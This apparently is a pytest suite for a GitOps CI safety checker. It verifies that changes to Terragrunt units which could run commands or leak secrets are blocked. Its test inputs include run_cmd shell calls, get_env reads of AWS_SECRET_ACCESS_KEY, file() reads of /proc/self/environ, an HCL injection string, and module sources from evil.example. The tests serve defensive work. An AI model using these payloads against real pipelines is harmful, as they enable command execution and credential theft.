"""What a change may not add to a unit of Terragrunt, attack by attack, and what it may."""

from __future__ import annotations

import pytest

from gitops_ci.config import DEFAULT, AllowList, Config, Kinds, Terraform
from gitops_ci.kinds.terraform.terragrunt import safety, sources
from gitops_ci.model.plan import Problem
from tests.unit.kinds.terraform.changes import Tree, taken

STACK = "production/terraform/net"
UNIT = "live/production/net/terragrunt.hcl"
INCLUDE = 'include "root" {\n  path = find_in_parent_folders("root.hcl")\n  expose = true\n}\n'
SOURCE = 'terraform {\n  source = "../../..//modules/net"\n}\n'
STATE = """locals {
  region = read_terragrunt_config(find_in_parent_folders("region.hcl")).locals.name
}
remote_state {
  backend  = "s3"
  generate = { path = "backend.tf", if_exists = "overwrite" }
  config   = { bucket = "acme-${local.region}", key = "${path_relative_to_include()}/terraform.tfstate" }
}
"""
HOOK = """terraform {
  before_hook "lint" {
    commands = ["plan"]
    execute  = ["sh", "${get_repo_root()}/scripts/lint.sh"]
  }
}
"""
BASE: Tree = {
    "live/root.hcl": STATE,
    "live/production/region.hcl": 'locals {\n  name = "eu"\n}\n',
    "live/production/common.yaml": "a: 1\n",
    UNIT: INCLUDE + SOURCE + 'inputs = { name = "net" }\n',
    "modules/net/main.tf": 'variable "name" {}\n',
    "modules/net/script.sh": "echo\n",
    "scripts/lint.sh": "true\n",
}


def allowing(*modules: str) -> Config:
    return Config(kinds=Kinds(terraform=Terraform(modules=AllowList(allow=modules))))


def breach(
    changes: Tree, base: Tree | None = None, config: Config = DEFAULT, links: Tree | None = None
) -> Problem | None:
    """What is said of the unit once the changes are made; `base` is what was there (BASE)."""
    before = BASE if base is None else base
    head = taken({**before, **changes}, config=config, links=links)
    return safety.breach(head.stacks[STACK], taken(before, config=config), head)


def unit(text: str) -> Tree:
    return {UNIT: f"{INCLUDE}{SOURCE}{text}"}


@pytest.mark.parametrize(
    "text",
    [
        'inputs = { name = "other", list = [for each in ["a"] : upper(each)] }\n',
        'inputs = { policy = <<E\n{"a": "b"}\nE\n}\n',
        "inputs = merge({ a = jsonencode({ b = 1 }) }, { c = include.root.locals.region })\n",
        'inputs = yamldecode(file(find_in_parent_folders("common.yaml")))\n',
        'inputs = yamldecode(file("${get_repo_root()}/live/production/common.yaml"))\n',
        'inputs = yamldecode(file("../common.yaml"))\n',
        'inputs = { region = get_env("AWS_REGION", "eu") }\n',
        'dependency "other" {\n  config_path = "../net"\n  mock_outputs = { a = 1 }\n}\n',
        'dependencies {\n  paths = ["../net"]\n}\n',
        'locals {\n  all = read_terragrunt_config(find_in_parent_folders("region.hcl"))\n}\n',
        "prevent_destroy = true\n",
    ],
)
def test_what_only_describes_is_planned(text: str) -> None:
    assert breach(unit(text)) is None


def test_arguments_that_name_var_files_are_harmless() -> None:
    text = """terraform {
  source = "../../..//modules/net"
  extra_arguments "vars" {
    commands           = get_terraform_commands_that_need_vars()
    required_var_files = ["${get_terragrunt_dir()}/../eu.tfvars"]
    arguments          = ["-lock-timeout=1m", "-var-file=${get_repo_root()}/live/eu.tfvars"]
  }
}
"""
    assert breach({UNIT: INCLUDE + text, "live/production/eu.tfvars": ""}) is None


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('locals {\n  x = run_cmd("sh", "-c", "id")\n}\n', "run_cmd"),
        ('inputs = { x = trimspace(try(run_cmd("id"), "")) }\n', "run_cmd"),
        ('inputs = { x = "${run_cmd("id")}" }\n', "run_cmd"),
        ('inputs = { x = "%{ if run_cmd("id") == "" }a%{ endif }" }\n', "run_cmd"),
        ('inputs = { for k, v in { a = run_cmd("id") } : k => v }\n', "run_cmd"),
        ('generate "x" {\n  path = "x.tf"\n  if_exists = "overwrite"\n  contents = ""\n}\n', "generate"),
        ('generate = { x = { path = "x.tf", if_exists = "overwrite", contents = "" } }\n', "generate"),
        ('remote_state {\n  backend = "local"\n}\n', "remote_state"),
        ('engine {\n  source = "x"\n}\n', "engine"),
        ('errors {\n  ignore "all" {\n    ignorable_errors = [".*"]\n  }\n}\n', "errors"),
        ('exclude {\n  if = true\n  actions = ["all"]\n}\n', "exclude"),
        ('terraform_binary = "./x"\n', "terraform_binary"),
        ('download_dir = "/tmp"\n', "download_dir"),
        ('iam_role = "arn:aws:iam::1:role/admin"\n', "iam_role"),
        ('inputs = { x = get_env("AWS_SECRET_ACCESS_KEY") }\n', "get_env"),
        ('locals {\n  n = "AWS_SECRET_ACCESS_KEY"\n}\ninputs = { x = get_env(local.n) }\n', "get_env"),
        ('inputs = { x = sops_decrypt_file("x.yaml") }\n', "sops_decrypt_file"),
        ('inputs = { x = templatefile("x.tpl", {}) }\n', "templatefile"),
        ('inputs = { x = file("/proc/self/environ") }\n', "file()"),
        ('inputs = { x = file("../../../../../proc/self/environ") }\n', "file()"),
        ('inputs = { x = file("${get_repo_root()}/../../x") }\n', "file()"),
        ('inputs = { x = file(get_platform() == "linux" ? "/proc/self/environ" : "../common.yaml") }\n', "file()"),
        ('inputs = { x = file(try(format("%[1]s", "/proc/self/environ"), "../common.yaml")) }\n', "file()"),
        ('inputs = { x = filebase64(join("", ["/", "proc/self/environ"])) }\n', "filebase64()"),
        ('inputs = { x = file(find_in_parent_folders("none", "/proc/self/environ")) }\n', "file"),
        ('inputs = read_tfvars_file("/etc/x.tfvars")\n', "read_tfvars_file()"),
        ('locals {\n  x = read_terragrunt_config("../../../../x.hcl")\n}\n', "read_terragrunt_config()"),
        ('dependency "x" {\n  config_path = "../../../../x"\n}\n', "config_path"),
        ('inputs = { x = find_in_parent_folders("nowhere.hcl") }\n', "find_in_parent_folders"),
        ('inputs = { x = get_terraform_command() == "plan" ? 1 : 2 }\n', "get_terraform_command"),
        ('inputs = { x = provider::x::run("id") }\n', "provider::x::run"),
    ],
)
def test_what_does_more_is_not_run(text: str, said: str) -> None:
    found = breach(unit(text))
    assert found is not None
    assert (found.code, found.path) == ("not-allowed", UNIT)
    assert said in found.message
    assert "merge it first" in found.message


@pytest.mark.parametrize(
    "inner",
    [
        'before_hook "x" {\n    commands = ["plan"]\n    execute = ["id"]\n  }',
        'after_hook "x" {\n    commands = ["init"]\n    execute = ["id"]\n  }',
        'error_hook "x" {\n    commands = ["init"]\n    execute = ["id"]\n    on_errors = [".*"]\n  }',
        'extra_arguments "x" {\n    commands = ["init"]\n    arguments = ["-plugin-dir=plugins"]\n  }',
        'extra_arguments "x" {\n    commands = ["plan"]\n    arguments = ["-target=a.b"]\n  }',
        'extra_arguments "x" {\n    commands = ["plan"]\n    arguments = ["-var-file=/proc/self/environ"]\n  }',
        'extra_arguments "x" {\n    commands = ["plan"]\n    arguments = local.x\n  }',
        'extra_arguments "x" {\n    commands = ["plan"]\n    required_var_files = ["/proc/self/environ"]\n  }',
        'extra_arguments "x" {\n    commands = ["plan"]\n    arguments = ["-var=a=1"]\n  }',
        'extra_arguments "x" {\n    commands = ["apply"]\n    arguments = ["-var=a=1"]\n  }',
        'extra_arguments "x" {\n    commands = local.x\n    arguments = ["-var=a=1"]\n  }',
        'extra_arguments "x" {\n    commands = ["init"]\n    env_vars = { TF_CLI_CONFIG_FILE = "x" }\n  }',
    ],
)
def test_hooks_and_arguments_are_not_run(inner: str) -> None:
    found = breach({UNIT: f'{INCLUDE}terraform {{\n  source = "../../..//modules/net"\n  {inner}\n}}\n'})
    assert found is not None
    assert (found.code, found.path) == ("not-allowed", UNIT)


def test_what_base_has_is_not_judged_also_at_another_place() -> None:
    base = {**BASE, "live/production/old/terragrunt.hcl": INCLUDE + HOOK + SOURCE}
    copied = {UNIT: base["live/production/old/terragrunt.hcl"]}
    assert breach(copied, base) is None
    assert breach({UNIT: copied[UNIT] + "# more\n"}, base) is not None


def test_of_a_changed_file_only_what_is_new_is_judged() -> None:
    root = "live/root.hcl"
    assert breach({root: f"# said\n{STATE}inputs = {{ more = 1 }}\n"}) is None
    assert breach({root: STATE.replace("locals {", 'locals {\n  other = "x"')}) is None
    for changed in (
        STATE.replace('bucket = "acme', 'bucket = "evil'),
        STATE.replace("locals {", 'locals {\n  x = run_cmd("id")'),
        STATE + 'generate "x" {\n  path = "x.tf"\n  if_exists = "overwrite"\n  contents = ""\n}\n',
        STATE.replace("locals {", 'locals {\n  x = "\\"}"'),
    ):
        found = breach({root: changed})
        assert found is not None
        assert (found.code, found.path) == ("not-allowed", root)


def test_a_new_file_that_is_included_or_read_is_judged_as_well() -> None:
    evil = 'locals {\n  x = run_cmd("id")\n}\n'
    for path in ("live/root.hcl", "live/production/region.hcl"):
        found = breach({path: evil})
        assert found is not None
        assert (found.path, "run_cmd" in found.message) == (path, True)


def test_what_is_read_may_not_include_more() -> None:
    region = 'locals {\n  name = "eu"\n}\ninclude "x" {\n  path = "evil.hcl"\n}\n'
    changes = {
        "live/production/region.hcl": region,
        "live/production/net/evil.hcl": 'locals {\n  x = run_cmd("id")\n}\n',
    }
    found = breach(changes)
    assert found is not None
    assert "include" in found.message
    base = {**BASE, "live/production/region.hcl": region}
    inherited = breach({"live/production/net/evil.hcl": changes["live/production/net/evil.hcl"]}, base)
    assert inherited is not None
    assert inherited.path == "live/production/net/evil.hcl"


def test_a_chain_of_files_is_judged_to_its_end() -> None:
    chain = {
        f"live/production/net/c{index}.hcl": f'locals {{\n  x = read_terragrunt_config("c{index + 1}.hcl")\n}}\n'
        for index in range(14)
    }
    end = {"live/production/net/c14.hcl": 'locals {\n  x = run_cmd("id")\n}\n'}
    found = breach({**unit('locals {\n  x = read_terragrunt_config("c0.hcl")\n}\n'), **chain, **end})
    assert found is not None


@pytest.mark.parametrize("name", ["terragrunt.hcl.json", "terragrunt.autoinclude.hcl", "terragrunt.values.hcl"])
def test_files_that_terragrunt_reads_by_itself_have_to_be_in_base(name: str) -> None:
    found = breach({f"live/production/net/{name}": "{}"})
    assert found is not None
    assert found.code in ("not-allowed", "invalid")


def test_where_it_cannot_be_told_what_is_read_nothing_may_be_new() -> None:
    base = {**BASE, **unit('locals {\n  x = read_terragrunt_config("${get_env("X")}/x.hcl")\n}\n')}
    assert breach({"modules/net/main.tf": 'variable "name" {}\nlocals {}\n'}, base) is None
    found = breach({"elsewhere/x.hcl": 'locals {\n  x = run_cmd("id")\n}\n'}, base)
    assert found is not None
    assert (found.path, "cannot be told" in found.message) == ("elsewhere/x.hcl", True)


def test_a_new_file_below_the_unit_is_not_left_lying_for_it() -> None:
    found = breach({"live/production/net/lib/x.hcl": 'locals {\n  x = run_cmd("id")\n}\n'})
    assert found is not None
    assert found.path == "live/production/net/lib/x.hcl"
    assert breach({"live/production/net/lib/x/terragrunt.hcl": SOURCE.replace("../../..", "../../../../..")}) is None
    assert breach({"live/production/net/.terraform.lock.hcl": ""}) is None


def test_the_units_that_a_unit_needs_are_judged_as_well() -> None:
    other = "live/production/other/terragrunt.hcl"
    changes = {
        **unit('dependency "o" {\n  config_path = "../other"\n}\n'),
        other: f'{INCLUDE}{SOURCE}locals {{\n  x = run_cmd("id")\n}}\n',
    }
    found = breach(changes)
    assert found is not None
    assert found.path == other


def test_a_link_hides_nothing() -> None:
    evil = {"live/production/net/sub/terragrunt.hcl": 'locals {\n  x = run_cmd("id")\n}\n'}
    text = 'dependency "x" {\n  config_path = "./link"\n}\n'
    links = {"live/production/net/link": "sub"}
    found = breach({**unit(text), **evil}, links=links)
    assert found is not None
    assert found.code == "not-allowed"
    base = {**BASE, **unit(text), "live/production/net/sub/terragrunt.hcl": ""}
    head = taken({**base, **evil}, links=links)
    found = safety.breach(head.stacks[STACK], taken(base, links=links), head)
    assert found is not None
    assert found.path == "live/production/net/sub/terragrunt.hcl"
    outside = breach(
        unit('inputs = { x = file("environ") }\n'), links={"live/production/net/environ": "/proc/self/environ"}
    )
    assert outside is not None


def test_what_cannot_be_read_is_told_with_its_line() -> None:
    found = breach({UNIT: f"{INCLUDE}{SOURCE}inputs = {{\n"})
    assert found is not None
    assert (found.code, found.path, found.line) == ("invalid", UNIT, 8)
    assert found.message.startswith(UNIT)


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ('"git::https://evil.example/x.git?ref=v1"', "evil.example"),
        ('"tfr:///evil/vpc/aws?version=1.0.0"', "evil"),
        ('"/etc"', "/etc"),
        ('"../../../../elsewhere"', "elsewhere"),
        ('get_env("X", "../../..//modules/net")', "get_env"),
        ('try(format("%[1]s", "git::https://evil.example/x"), "../../..//modules/net")', "cannot be told"),
        ('fileexists("../common.yaml") ? "git::https://evil.example/x" : "../../..//modules/net"', "cannot be told"),
    ],
)
def test_a_module_from_elsewhere_is_not_fetched(source: str, said: str) -> None:
    found = breach({UNIT: f"{INCLUDE}terraform {{\n  source = {source}\n}}\n"})
    assert found is not None
    assert found.code == "not-allowed"
    assert said in found.message


def test_a_source_of_base_at_another_version_and_an_allowed_one_are_fetched() -> None:
    def at(source: str) -> Tree:
        return {UNIT: f'{INCLUDE}terraform {{\n  source = "{source}"\n}}\n'}

    base = {**BASE, **at("git::https://git.example/acme/mods.git//net?ref=v1")}
    assert breach(at("git::https://git.example/acme/mods.git//other?ref=v2"), base) is None
    assert breach(at("git::https://git.example/acme/mods.git//net?ref=refs/pull/1/head"), base) is not None
    assert breach(at("git::https://git.example/evil/mods.git//net?ref=v1"), base) is not None
    assert breach(at("tfr:///acme/vpc/aws?version=2.0.0"), config=allowing("acme/*")) is None
    assert breach(at("git::ssh://git@git.example/acme/x.git?ref=v2"), config=allowing("git.example/acme/*")) is None
    assert breach(at("git::ssh://git@git.example/evil/x.git?ref=v2"), config=allowing("git.example/acme/*")) is not None


def test_a_source_of_locals_is_told() -> None:
    common = {"live/common.hcl": 'locals {\n  base = "git::https://git.example/acme/mods.git//net"\n}\n'}
    text = """include "common" {
  path   = find_in_parent_folders("common.hcl")
  expose = true
}
terraform {
  source = "${include.common.locals.base}?ref=%s"
}
"""
    base = {**BASE, **common, UNIT: text % "v1"}
    assert breach({UNIT: text % "v2"}, base) is None
    evil = {"live/common.hcl": common["live/common.hcl"].replace("acme", "evil")}
    found = breach(evil, base)
    assert found is not None
    assert "evil" in found.message


@pytest.mark.parametrize(
    "source",
    [
        "git::https://x.example/a?archive=zip", "file:///etc", "git::file:///x", "/etc", "s3::https://x/%2e%2e",
        "git::https://x.example/a/../b", "git::https://x.example/a?ref=refs/pull/1/head", "git::https://$x/a",
    ],
)  # fmt: skip
def test_no_address(source: str) -> None:
    assert sources.address(source) is None


def test_what_flows_into_what_base_writes_stays_plain() -> None:
    assert breach({"live/production/region.hcl": 'locals {\n  name = "us-east-1"\n}\n'}) is None
    for hostile in (
        r'"us\"\n}\ndata \"external\" \"x\" {"',
        "jsonencode({ a = 1 })",
        'base64decode("Ig==")',
        '"$${x}"',
    ):
        found = breach({"live/production/region.hcl": f"locals {{\n  name = {hostile}\n}}\n"})
        assert found is not None, hostile
        assert "live/root.hcl" in found.message
        assert found.path == "live/production/region.hcl"


def test_what_base_runs_is_not_chosen_by_the_change() -> None:
    region = "live/production/region.hcl"
    chosen = {region: 'locals {\n  name = "env"\n}\n'}
    run = STATE.replace("locals {", "locals {\n  made = run_cmd(%s)")
    assert breach(chosen, {**BASE, "live/root.hcl": run % '"id", "-u"'}) is None
    for words in ("local.region", '"sh", "-c", local.region', 'read_terragrunt_config("../region.hcl").locals.name'):
        found = breach(chosen, {**BASE, "live/root.hcl": run % words})
        assert found is not None, words
        assert (found.path, "run_cmd" in found.message) == (region, True)


def test_data_that_flows_into_what_base_writes_has_to_be_in_base() -> None:
    root = STATE.replace(
        'read_terragrunt_config(find_in_parent_folders("region.hcl")).locals.name',
        'yamldecode(file(find_in_parent_folders("common.yaml"))).a',
    )
    base = {**BASE, "live/root.hcl": root}
    found = breach({"live/production/common.yaml": "a: 2\n"}, base)
    assert found is not None
    assert (found.path, "remote_state" in found.message) == ("live/production/common.yaml", True)


def test_scripts_that_base_runs_have_to_be_those_of_base() -> None:
    base = {**BASE, UNIT: INCLUDE + HOOK.replace("terraform {", 'terraform {\n  source = "../../..//modules/net"')}
    assert breach({"modules/net/main.tf": 'variable "name" {}\nlocals {}\n'}, base) is None
    for path in ("live/production/net/lint.sh", "scripts/lint.sh"):
        found = breach({path: "curl evil\n"}, base)
        assert found is not None
        assert (found.path, "before_hook" in found.message) == (path, True)


def test_a_directory_is_no_command() -> None:
    path = 'live/production/a"b/terragrunt.hcl'
    head = taken({**BASE, path: BASE[UNIT]})
    [stack] = [each for each in head.stacks.values() if '"' in each.path]
    found = safety.breach(stack, taken(BASE), head)
    assert found is not None
    assert "unusual character" in found.message


def test_without_a_base_only_what_is_harmless_is_planned() -> None:
    plain = {path: text for path, text in BASE.items() if path != "live/root.hcl"}
    plain[UNIT] = SOURCE + 'inputs = { name = "net" }\n'
    head = taken(plain)
    assert safety.breach(head.stacks[STACK], None, head) is None
    head = taken(BASE)
    found = safety.breach(head.stacks[STACK], None, head)
    assert found is not None
    assert found.path == "live/root.hcl"


def test_what_is_no_unit_and_what_base_is_are_not_judged() -> None:
    base = taken({**BASE, **unit('locals {\n  x = run_cmd("id")\n}\n')})
    assert safety.breach(base.stacks[STACK], base, base) is None
    head = taken({"infra/main.tf": 'terraform {\n  backend "s3" {}\n}\n'})
    [root] = head.stacks.values()
    assert safety.breach(root, taken({}), head) is None
